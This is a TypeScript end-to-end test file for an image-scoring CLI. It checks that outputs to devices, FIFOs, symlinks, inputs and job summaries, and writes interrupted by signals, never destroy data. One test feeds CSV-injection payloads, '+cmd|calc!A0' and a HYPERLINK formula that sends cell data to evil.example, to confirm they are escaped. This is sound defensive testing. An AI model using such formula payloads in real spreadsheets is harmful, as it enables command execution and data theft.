/**
 * Outputs end to end: the real CLI writing to places that are not plain new files (devices, FIFOs,
 * symlinks, its own inputs, missing folders), with a stderr that cannot be written, and signals that
 * arrive while the output is being written. Nothing may be destroyed, and the exit code must say what
 * happened to the run, not to its logs.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { closeSync, openSync, readFileSync, readdirSync } from 'node:fs';
import { lstat, mkdir, readFile, readdir, rename, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { repoRoot, skipWithoutReference } from './helpers/paths.js';
import { tinyModel } from './helpers/tiny-model.js';
import { cliEntry, runCli, signalWhen, spawnCli, spawnCollecting, type CliResult } from './helpers/pipe-cli.js';
import { writeGradientPngs } from './helpers/pipe-images.js';
import { withTempDir } from './helpers/temp-dir.js';

const SPAWNING = { skip: skipWithoutReference, timeout: 300_000 };

/** The CLI with stdout collected and stderr on the given descriptor, or on a pipe whose reader has already gone. */
function runCliWithStderr(args: string[], stderr: number | 'closed-pipe'): Promise<CliResult> {
  const child = spawn(process.execPath, [...cliEntry, ...args], { cwd: repoRoot, stdio: ['ignore', 'pipe', stderr === 'closed-pipe' ? 'pipe' : stderr] });
  if (stderr === 'closed-pipe') child.stderr?.destroy();
  let stdout = '';
  child.stdout?.setEncoding('utf8').on('data', (chunk: string) => { stdout += chunk; });
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr: '' }));
  });
}

/** Any command, stdin closed, output collected. */
function runCollecting(command: string, args: string[]): Promise<CliResult> {
  return spawnCollecting(command, args, { cwd: repoRoot, env: process.env }).done;
}

const scorerFlags = (model: string): string[] => ['--model', model, '--device', 'cpu', '--threads', '1', '--no-cache'];

/** Two gradient images and a corrupt one: a rank over them exits 3, after a warning on stderr. */
async function imagesWithOneBad(dir: string): Promise<string> {
  const images = path.join(dir, 'images');
  await mkdir(images);
  await writeGradientPngs(images, 2);
  await writeFile(path.join(images, 'corrupt.png'), 'not a png');
  return images;
}

/** A pointwise manifest of two models over the same prompts, so --baseline/--candidate gate on it. */
async function gateManifest(dir: string): Promise<string> {
  const names = await writeGradientPngs(dir, 4);
  const manifest = path.join(dir, 'gate.jsonl');
  await writeFile(manifest, names.map((image, i) => JSON.stringify({ prompt: `prompt ${i >> 1}`, image, model: i % 2 ? 'b' : 'a' })).join('\n'));
  return manifest;
}

test('a stderr that cannot be written (a full disk, a closed pipe) changes neither the exit code nor the output', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const manifest = await gateManifest(dir);
    const full = openSync('/dev/full', 'w');
    try {
      const gate = await runCliWithStderr(['eval', manifest, ...scorerFlags(model), '--format', 'json', '--baseline', 'a', '--candidate', 'b', '--max-drop', '1000'], full);
      assert.equal(gate.code, 0, 'the gate passed; a stderr on /dev/full must not turn that into a failure');
      assert.equal((JSON.parse(gate.stdout) as { gate: { worse: boolean } }).gate.worse, false);
    } finally {
      closeSync(full);
    }

    const images = await imagesWithOneBad(dir);
    const out = path.join(dir, 'ranked.csv');
    const rank = await runCliWithStderr(['rank', images, '--prompt', 'p', ...scorerFlags(model), '--out', out, '--verbose'], 'closed-pipe');
    assert.equal(rank.code, 3, 'one row failed: exit 3, whatever happened to the log lines');
    assert.equal((await readFile(out, 'utf8')).trim().split('\n').length, 4, 'header and three rows');
  });
});

test('$GITHUB_STEP_SUMMARY that cannot be written is a warning; the gate decides the exit code', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const manifest = await gateManifest(dir);
    const out = path.join(dir, 'report.md');
    const args = ['eval', manifest, ...scorerFlags(model), '--out', out, '--baseline', 'a', '--candidate', 'b'];
    const expected = await runCli([...args, '--max-drop', '1000']);
    assert.equal(expected.code, 0, expected.stderr);
    for (const summary of [path.join(dir, 'no-such-folder', 'summary.md'), dir]) {
      const result = await runCli([...args, '--max-drop', '1000'], { env: { GITHUB_STEP_SUMMARY: summary } });
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stderr, new RegExp(`^warning: cannot append the job summary to \\$GITHUB_STEP_SUMMARY \\(${summary.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\)`, 'm'));
      assert.doesNotMatch(result.stderr, /\n\s+at /, 'a warning, not a stack trace');
      assert.match(await readFile(out, 'utf8'), /Gate/, 'the report is written');
    }
    // With no margin the gate may pass or fail on these random weights; either way, the same code as without a summary.
    const broken = await runCli([...args, '--max-drop', '0'], { env: { GITHUB_STEP_SUMMARY: path.join(dir, 'missing', 's.md') } });
    const unset = await runCli([...args, '--max-drop', '0']);
    assert.ok(unset.code === 0 || unset.code === 1, unset.stderr);
    assert.equal(broken.code, unset.code, `the gate's code with and without a broken summary path: ${broken.stderr}`);
  });
});

test('the job summary is appended, also to a FIFO, never renamed over', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const manifest = await gateManifest(dir);
    const summary = path.join(dir, 'summary.md');
    await writeFile(summary, 'earlier step\n');
    const result = await runCli(['eval', manifest, ...scorerFlags(model), '--format', 'json'], { env: { GITHUB_STEP_SUMMARY: summary } });
    assert.equal(result.code, 0, result.stderr);
    const text = await readFile(summary, 'utf8');
    assert.ok(text.startsWith('earlier step\n') && text.includes('| model |'), `appended after what an earlier step wrote: ${text}`);

    const fifo = path.join(dir, 'summary.fifo');
    execFileSync('mkfifo', [fifo]);
    const reader = spawnCollecting('cat', [fifo], { cwd: dir, env: process.env });
    const piped = await runCli(['eval', manifest, ...scorerFlags(model), '--format', 'json'], { env: { GITHUB_STEP_SUMMARY: fifo } });
    assert.equal(piped.code, 0, piped.stderr);
    assert.match((await reader.done).stdout, /\| model \|/, 'the summary went through the FIFO');
    assert.ok((await lstat(fifo)).isFIFO(), 'the FIFO is still a FIFO');
    assert.deepEqual((await readdir(dir)).filter((f) => f.endsWith('.tmp')), []);
  });
});

test('a $GITHUB_STEP_SUMMARY that names an input or --out is skipped with a warning, the file untouched; the gate decides the exit code', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const manifest = await gateManifest(dir);
    const out = path.join(dir, 'report.json');
    const args = ['eval', manifest, ...scorerFlags(model), '--baseline', 'a', '--candidate', 'b', '--max-drop', '1000'];
    const cases: [string, string[], string, RegExp][] = [
      ['the manifest', ['--format', 'json'], manifest, /names the same file as the manifest .*gate\.jsonl/],
      ['an image of the manifest', ['--format', 'json'], path.join(dir, 'img-000.png'), /names the same file as the image img-000\.png \(image of .*gate\.jsonl:1\)/],
      ['--out', ['--out', out], out, /names the same file as --out \(.*report\.json\)/],
    ];
    for (const [what, extra, summary, names] of cases) {
      await writeFile(out, 'an earlier report\n');
      const before = await readFile(summary);
      const result = await runCli([...args, ...extra], { env: { GITHUB_STEP_SUMMARY: summary } });
      assert.equal(result.code, 0, `${what}: ${result.stderr}`);
      assert.match(result.stderr, new RegExp(`^warning: \\$GITHUB_STEP_SUMMARY \\(${summary.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\) ${names.source}: appending the job summary would change it, so the summary was skipped; the report itself was written$`, 'm'), what);
      if (summary !== out) assert.deepEqual(await readFile(summary), before, `${what} is untouched`);
      else assert.doesNotThrow(() => JSON.parse(readFileSync(out, 'utf8')), 'the report is the whole file: nothing was appended to it');
    }
    // Through merge: a summary naming a part is skipped the same way.
    const parts = [0, 1].map((i) => path.join(dir, `part-${i}.json`));
    for (const [i, part] of parts.entries()) {
      const shard = await runCli(['eval', manifest, ...scorerFlags(model), '--shard', `${i}/2`, '--out', part]);
      assert.equal(shard.code, 0, shard.stderr);
    }
    const before = await readFile(parts[1]);
    const merged = await runCli(['merge', ...parts, '--format', 'json'], { env: { GITHUB_STEP_SUMMARY: parts[1] } });
    assert.equal(merged.code, 0, merged.stderr);
    assert.match(merged.stderr, /^warning: \$GITHUB_STEP_SUMMARY \(.*part-1\.json\) names the same file as the part .*part-1\.json: appending the job summary would change it/m);
    assert.deepEqual(await readFile(parts[1]), before);
  });
});

test('rank CSV: a file name and a prompt that a spreadsheet would run come out as text', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const [name] = await writeGradientPngs(dir, 1);
    const hostileName = '+cmd|calc!A0.png';
    await rename(path.join(dir, name), path.join(dir, hostileName));
    const prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const result = await runCli(['rank', hostileName, '--prompt', prompt, ...scorerFlags(model), '--format', 'csv'], { cwd: dir });
    assert.equal(result.code, 0, result.stderr);
    const [header, row] = result.stdout.trim().split('\n');
    assert.equal(header, 'path,prompt,score,prob,rank,width,height,error');
    assert.ok(row.startsWith(`'+cmd|calc!A0.png,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`), row);
    assert.match(row, /,1,1,32,32,$/, 'numbers are written as numbers');
  });
});

test('--out names a device, a FIFO, /dev/stdout, >(cat) or a symlink: written through or beside the real file, never renamed over', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const images = path.join(dir, 'images');
    await mkdir(images);
    await writeGradientPngs(images, 2);
    const rank = ['rank', images, '--prompt', 'p', ...scorerFlags(model), '--format', 'csv'];

    if (process.getuid?.() === 0) {
      const device = path.join(dir, 'null');
      execFileSync('mknod', [device, 'c', '1', '3']);
      const result = await runCli([...rank, '--out', device]);
      assert.equal(result.code, 0, result.stderr);
      assert.ok((await lstat(device)).isCharacterDevice(), 'the device node is still a device, not a CSV file');
    }

    // >(cat) is /dev/fd/N, a pipe: the folder /dev/fd cannot take a temporary file, and needs none.
    const substituted = await runCollecting('bash', ['-c', `"$0" "$@" --out >(cat)`, process.execPath, ...cliEntry, ...rank]);
    assert.equal(substituted.code, 0, substituted.stderr);
    assert.equal(substituted.stdout.trim().split('\n').length, 3, `the header and two rows came through the pipe: ${substituted.stdout}`);
    const viaStdout = await runCli([...rank, '--out', '/dev/stdout']);
    assert.equal(viaStdout.code, 0, viaStdout.stderr);
    assert.equal(viaStdout.stdout.trim().split('\n').length, 3);

    const real = path.join(dir, 'results', 'ranked.csv');
    await mkdir(path.dirname(real));
    await writeFile(real, 'previous\n');
    const link = path.join(dir, 'latest.csv');
    await symlink(path.relative(dir, real), link);
    const linked = await runCli([...rank, '--out', link]);
    assert.equal(linked.code, 0, linked.stderr);
    assert.ok((await lstat(link)).isSymbolicLink(), 'the link is still a link');
    assert.match(await readFile(real, 'utf8'), /^path,prompt,score/, 'the file it names holds the new output');
    assert.deepEqual(await readdir(path.dirname(real)), ['ranked.csv'], 'no temporary file left beside it');
    assert.deepEqual((await readdir(dir)).filter((f) => f.endsWith('.tmp')), []);
  });
});

test('an --out or --scores whose folder is missing is reported before any work, in rank, eval and merge', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const manifest = await gateManifest(dir);
    const missing = path.join(dir, 'no-such-folder', 'out.json');
    const message = new RegExp(`^error: Cannot write output file ${missing.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: its folder does not exist \\(ENOENT\\)`, 'm');
    const runs: [string, string[]][] = [
      ['rank --out', ['rank', dir, '--prompt', 'p', ...scorerFlags(model), '--verbose', '--out', missing]],
      ['eval --out', ['eval', manifest, ...scorerFlags(model), '--verbose', '--out', missing]],
      ['eval --scores', ['eval', manifest, ...scorerFlags(model), '--verbose', '--scores', missing]],
      ['eval --shard --out', ['eval', manifest, ...scorerFlags(model), '--verbose', '--shard', '0/2', '--out', missing]],
      // The parts do not exist either: the output is checked first.
      ['merge --out', ['merge', path.join(dir, 'part-0.json'), '--out', missing]],
      ['merge --scores', ['merge', path.join(dir, 'part-0.json'), '--scores', missing]],
    ];
    for (const [what, args] of runs) {
      const result = await runCli(args);
      assert.equal(result.code, 4, `${what}: ${result.stderr}`);
      assert.match(result.stderr, message, what);
      assert.doesNotMatch(result.stderr, /^(rank|eval): \d+\/\d+$/m, `${what}: nothing was scored`);
    }
  });
});

test('an output that names an input is refused with exit 2 before any model is loaded, naming both, and the input is untouched', SPAWNING, async () => {
  await withTempDir('outputs', async (dir) => {
    const images = path.join(dir, 'same');
    await mkdir(images);
    await writeGradientPngs(images, 2);
    await writeFile(path.join(images, 'ok.txt'), 'a sidecar prompt');
    const image = path.join(images, 'ok.png');
    await rename(path.join(images, 'img-000.png'), image);
    const prompts = path.join(dir, 'prompts.txt');
    await writeFile(prompts, 'a gradient\n');
    const manifest = await gateManifest(dir);
    const validation = path.join(dir, 'validation.jsonl');
    await writeFile(validation, `${JSON.stringify({ prompt: 'p', image_0: 'img-000.png', image_1: 'img-001.png', label_0: 1 })}\n`);
    const part = path.join(dir, 'part-0.json');
    await writeFile(part, '{"a part": true}\n');
    await symlink(image, path.join(dir, 'link.csv'));
    // A model folder that does not exist: loading it would fail with exit 4, so exit 2 shows the check came first.
    const noModel = ['--model', path.join(dir, 'no-model'), '--device', 'cpu', '--no-cache', '--verbose'];
    const cases: [string, string[], string, RegExp][] = [
      ['rank: an image', ['rank', 'same', '--prompt', 'x', ...noModel, '--format', 'csv', '--out', 'same/ok.png'], image, /--out names the same file as the input image same\/ok\.png/],
      ['rank: an image through a symlink', ['rank', 'same', '--prompt', 'x', ...noModel, '--out', 'link.csv'], image, /--out names the same file as the input image same\/ok\.png/],
      ['rank: one shard, another shard\'s image', ['rank', 'same', '--prompt', 'x', ...noModel, '--shard', '1/2', '--format', 'json', '--out', './same/../same/ok.png'], image, /--out names the same file as the input image same\/ok\.png/],
      ['rank: the prompts file', ['rank', 'same', '--prompts-file', 'prompts.txt', ...noModel, '--format', 'csv', '--out', prompts], prompts, /--out names the same file as --prompts-file prompts\.txt/],
      ['rank: a sidecar', ['rank', 'same', '--prompt-from', 'sidecar', ...noModel, '--format', 'csv', '--out', 'same/ok.txt'], path.join(images, 'ok.txt'), /--out names the same file as the sidecar prompt file same\/ok\.txt/],
      ['eval: the manifest', ['eval', manifest, ...noModel, '--format', 'json', '--out', manifest], manifest, /--out names the same file as the manifest .*gate\.jsonl/],
      ['eval: --scores on the manifest', ['eval', manifest, ...noModel, '--scores', manifest], manifest, /--scores names the same file as the manifest/],
      ['eval: --validation', ['eval', manifest, ...noModel, '--validation', validation, '--format', 'json', '--out', validation], validation, /--out names the same file as the --validation manifest/],
      ['eval: an image of the manifest', ['eval', manifest, ...noModel, '--scores', path.join(dir, 'img-001.png')], path.join(dir, 'img-001.png'), /--scores names the same file as the image img-001\.png \(image of .*gate\.jsonl:2\)/],
      ['merge: a part', ['merge', part, path.join(dir, 'part-1.json'), '--out', part], part, /--out names the same file as the part .*part-0\.json/],
    ];
    for (const [what, args, input, message] of cases) {
      const before = await readFile(input);
      const result = await runCli(args, { cwd: dir });
      assert.equal(result.code, 2, `${what}: ${result.stderr}`);
      assert.match(result.stderr, message, what);
      assert.doesNotMatch(result.stderr, /^(rank|eval): \d+\/\d+$/m, `${what}: nothing was scored`);
      assert.deepEqual(await readFile(input), before, `${what}: the input is untouched`);
    }
    // --device cuda:all: the workers see the inputs, the merge writes --out; each worker refuses first.
    const allDevices = await runCli(['rank', 'same', '--prompt', 'x', ...noModel, '--device', 'cuda:all', '--format', 'csv', '--out', 'same/ok.png'], { cwd: dir, env: { PICKSCORE_DEVICES: 'cpu,cpu' } });
    assert.equal(allDevices.code, 2, allDevices.stderr);
    assert.match(allDevices.stderr, /--out names the same file as the input image same\/ok\.png/);
    assert.equal((await readFile(image)).subarray(1, 4).toString(), 'PNG', 'the image is untouched');

    const both = path.join(dir, 'report.json');
    const twice = await runCli(['eval', manifest, ...noModel, '--out', both, '--scores', path.join(dir, '.', 'report.json')]);
    assert.equal(twice.code, 2, twice.stderr);
    assert.match(twice.stderr, /--scores names the same file as --out/);
    assert.deepEqual((await readdir(dir)).filter((f) => f.endsWith('.tmp') || f === 'report.json'), []);
  });
});

/** Runs the interrupted-write child, calling `onLine` with each line it prints. */
function spawnInterruptedWrite(target: string, holdMs: number, onLine: (line: string, child: ChildProcess) => void): Promise<CliResult> {
  const script = fileURLToPath(new URL('./helpers/interrupted-write.js', import.meta.url));
  const run = spawnCollecting(process.execPath, [script, target], { cwd: repoRoot, env: { ...process.env, HOLD_MS: String(holdMs) } });
  let pending = '';
  run.child.stdout?.on('data', (chunk: string) => {
    const lines = (pending + chunk).split('\n');
    pending = lines.pop() ?? '';
    for (const line of lines) onLine(line, run.child);
  });
  return run.done;
}

test('a first signal during the final write lets it finish (exit 130, the whole output in place, no temporary file)', async () => {
  await withTempDir('outputs', async (dir) => {
    const target = path.join(dir, 'many.html');
    await writeFile(target, 'previous\n');
    const result = await spawnInterruptedWrite(target, 200, (line, child) => { if (line === 'writing') child.kill('SIGTERM'); });
    assert.equal(result.signal, null, 'the process was not killed by the signal');
    assert.equal(result.code, 130, result.stderr);
    assert.match(result.stderr, /warning: SIGTERM received while the output is written; finishing it/);
    assert.equal(await readFile(target, 'utf8'), `${'x'.repeat(100_000)}end\n`);
    assert.deepEqual(await readdir(dir), ['many.html']);
  });
});

test('a second signal during the final write quits at once, keeps the previous output and leaves no temporary file', async () => {
  await withTempDir('outputs', async (dir) => {
    const target = path.join(dir, 'many.html');
    await writeFile(target, 'previous\n');
    const during: string[][] = [];
    const result = await spawnInterruptedWrite(target, 120_000, (line, child) => {
      if (line === 'writing') {
        during.push(readdirSync(dir));
        child.kill('SIGINT');
      }
      if (line === 'signalled') child.kill('SIGINT');
    });
    assert.equal(result.code, 130, result.stderr);
    assert.ok(during[0].some((f) => /^\.many\.html\.\d+\.[0-9a-f]+\.tmp$/.test(f)), `the write was under way: ${during[0]}`);
    assert.equal(await readFile(target, 'utf8'), 'previous\n');
    assert.deepEqual(await readdir(dir), ['many.html'], 'no temporary file is left behind');
  });
});

test('rank: a SIGTERM after the scoring, while the output waits for its FIFO reader, lets the write finish; exit 130', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const images = path.join(dir, 'images');
    await mkdir(images);
    await writeGradientPngs(images, 6);
    const fifo = path.join(dir, 'ranked.html');
    execFileSync('mkfifo', [fifo]);
    const run = spawnCli(['rank', images, '--prompt', 'p', ...scorerFlags(model), '--verbose', '--out', fifo]);
    let reader: Promise<CliResult> | undefined;
    signalWhen(run.child, (chunk) => /^rank: 6\/6$/m.test(chunk), 'SIGTERM');
    run.child.stderr?.on('data', (chunk: string) => {
      // The reader comes only after the signal: until then the write is held in the FIFO's open.
      if (!reader && /SIGTERM received/.test(chunk)) reader = spawnCollecting('cat', [fifo], { cwd: dir, env: process.env }).done;
    });
    const result = await run.done;
    assert.equal(result.signal, null, `not killed by the signal: ${result.stderr}`);
    assert.equal(result.code, 130, result.stderr);
    const html = (await reader!).stdout;
    assert.equal((html.match(/<li class="card"/g) ?? []).length, 6, 'every row was written');
    assert.equal((html.match(/<img src="data:image\/webp;base64,/g) ?? []).length, 6, 'with its thumbnail, made while the run scored');
    assert.ok(html.endsWith('</html>\n'));
    assert.ok((await lstat(fifo)).isFIFO());
  });
});

test('stdout redirected to a file that hits its size limit is an error (exit 4), never a silent short output', SPAWNING, async () => {
  const model = await tinyModel();
  await withTempDir('outputs', async (dir) => {
    const images = path.join(dir, 'images');
    await mkdir(images);
    await writeGradientPngs(images, 120);
    const out = path.join(dir, 'out.jsonl');
    const args = ['rank', images, '--prompt', 'a gradient', ...scorerFlags(model), '--format', 'jsonl'];
    // ulimit -f 8: the shell's file-size limit, in 1024-byte blocks; 120 rows are about 20 KB.
    const quoted = [process.execPath, ...cliEntry, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
    const limited = await runCollecting('bash', ['-c', `ulimit -f 8; exec ${quoted} > '${out}'`]);
    assert.equal(limited.code, 4, limited.stderr);
    assert.match(limited.stderr, /Cannot write the output stream: the file is too large for its limit \(EFBIG\)/);
    const whole = await runCli([...args]);
    assert.equal(whole.code, 0, whole.stderr);
    assert.ok(whole.stdout.length > 8192, 'the full output is larger than the limit');
    assert.equal(await readFile(out, 'utf8'), whole.stdout.slice(0, 8192), 'what was written is the start of the output, in order');
  });
});
